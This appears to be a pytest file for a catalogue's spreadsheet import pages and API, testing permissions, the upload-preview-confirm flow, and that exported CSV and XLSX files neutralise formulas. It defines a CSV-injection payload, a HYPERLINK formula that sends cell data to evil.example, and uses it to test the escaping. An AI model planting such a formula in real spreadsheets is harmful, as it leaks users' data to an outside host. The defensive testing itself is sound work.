"""The import pages and the import API: templates, upload → preview → confirm, permissions,
and that every CSV the catalogue writes neutralises formulas."""

from __future__ import annotations

import base64
import csv
import io
import zipfile

from sqlalchemy import select

from catalogue.csv_safety import csv_text, restore_cell, safe_cell
from catalogue.modules.models import Module
from tests.api.conftest import bearer, issue_token
from tests.factories import (
    EDITOR_A,
    EDITOR_B,
    INSTITUTION_A,
    app_session,
    create_module,
    csrf_token_from,
    module_content,
    snapshot,
)
from tests.transfer import spreadsheets as s

EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Klik")'
PAGE = f"/manage/institutions/{INSTITUTION_A}/import"


def test_safe_cell_neutralises_every_formula_prefix():
    for text in ("=1+1", "+31", "-1", "@SUM(1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
        assert restore_cell(safe_cell(text)) == text
    assert safe_cell("Gewoon") == "Gewoon"
    assert safe_cell(-1) == -1
    assert restore_cell("'quoted") == "'quoted"
    assert csv_text([[EVIL, "ok"]]).startswith("\"'=HYPERLINK(")


def _evil_module(world_app, world):
    with app_session(world_app) as session:
        create_module(session, world.a, module_content("EVIL-1", title=EVIL))


def test_the_csv_template_neutralises_a_formula_in_a_module_title(world_app, world, client_for):
    _evil_module(world_app, world)
    for language in ("en", "nl"):
        response = client_for(EDITOR_A).get(f"{PAGE}/template.zip?lang={language}")
        assert response.status_code == 200
        assert response.mimetype == "application/zip"
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8-sig")
                delimiter = ";" if language == "nl" else ","
                for row in csv.reader(io.StringIO(text), delimiter=delimiter):
                    for cell in row:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
            modules = archive.read("modules.csv").decode("utf-8-sig")
        assert "'" + EVIL.replace('"', '""') in modules


def test_the_xlsx_template_holds_a_formula_like_title_as_text(world_app, world, client_for):
    from openpyxl import load_workbook

    _evil_module(world_app, world)
    response = client_for(EDITOR_A).get(f"{PAGE}/template.xlsx?lang=nl")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "modules",
        "leereenheden",
        "materialen",
        "uitvoeringen",
        "toegestane waarden",
    ]
    titles = {row[1].value: row[1].data_type for row in book["modules"].iter_rows(min_row=2)}
    assert titles[EVIL] == "s"
    headers = [c.value for c in book["modules"][1]]
    assert headers[:6] == ["code", "titel", "samenvatting", "beschrijving", "sector", "niveau"]
    values = {row[1]: row[2] for row in book["toegestane waarden"].iter_rows(values_only=True)}
    assert values["sector"].startswith("mbo (mbo), hbo (hbo), wo (wo)")


def test_another_institutions_editor_cannot_import_or_download(client_for):
    client = client_for(EDITOR_B)
    assert client.get(PAGE).status_code == 403
    assert client.get(f"{PAGE}/template.xlsx").status_code == 403


def _upload(client, data: bytes, name: str = "modules.xlsx"):
    token = csrf_token_from(client.get(PAGE).text)
    return client.post(
        PAGE,
        data={"csrf_token": token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def test_upload_preview_then_confirm(world_app, client_for):
    client = client_for(EDITOR_A)
    sheets = s.standard_sheets()
    sheets["modules"][1][3] = "hbx"
    sheets["runs"][2][8] = "many"
    before = snapshot(world_app)
    refused = _upload(client, s.xlsx(sheets))
    assert refused.status_code == 422
    # The pages speak Dutch by default.
    assert "blad modules, rij 2, kolom D (sector):" in refused.text
    assert "mbo, hbo, wo" in refused.text
    assert "blad runs, rij 3, kolom I (seats): “many” is geen getal." in refused.text
    assert 'name="token"' not in refused.text
    assert snapshot(world_app) == before

    preview = _upload(client, s.xlsx(s.standard_sheets()))
    assert preview.status_code == 200
    assert snapshot(world_app) == before
    form = {
        "csrf_token": csrf_token_from(preview.text),
        "token": preview.text.split('name="token" value="')[1].split('"')[0],
        "filename": "modules.xlsx",
        "publish": "y",
    }
    done = client.post(f"{PAGE}/confirm", data=form)
    assert done.status_code == 302
    with app_session(world_app) as session:
        imported = session.scalar(select(Module).where(Module.code == "IMP-1"))
        assert imported.status == "published"
    again = client.post(f"{PAGE}/confirm", data=form)
    assert again.status_code == 404, "an upload is imported once"


def test_api_import_dry_run_then_import(world_app):
    token = issue_token(world_app, EDITOR_A.email)
    client = world_app.test_client()
    body = {
        "filename": "modules.xlsx",
        "content": base64.b64encode(s.xlsx(s.standard_sheets())).decode(),
        "dry_run": True,
    }
    url = f"/api/v1/institutions/{INSTITUTION_A}/imports"
    dry = client.post(url, json=body, headers=bearer(token))
    assert dry.status_code == 200, dry.json
    assert (dry.json["created"], dry.json["dry_run"]) == (4, True)
    assert {r["action"] for r in dry.json["rows"]} == {"create"}

    done = client.post(url, json={**body, "dry_run": False}, headers=bearer(token))
    assert done.status_code == 200
    assert (done.json["created"], done.json["unchanged"]) == (4, 0)

    sheets = s.standard_sheets()
    sheets["modules"][2][3] = "hbx"
    bad = {**body, "content": base64.b64encode(s.xlsx(sheets)).decode()}
    refused = client.post(url, json=bad, headers=bearer(token))
    assert refused.status_code == 422
    assert any("rij 3, kolom D (sector)" in m for m in refused.json["fields"]["file"])

    other = issue_token(world_app, EDITOR_B.email)
    assert client.post(url, json=body, headers=bearer(other)).status_code == 403
    assert client.post(url, json=body).status_code == 401
    garbage = {**body, "content": "not base64!"}
    assert client.post(url, json=garbage, headers=bearer(token)).status_code == 422
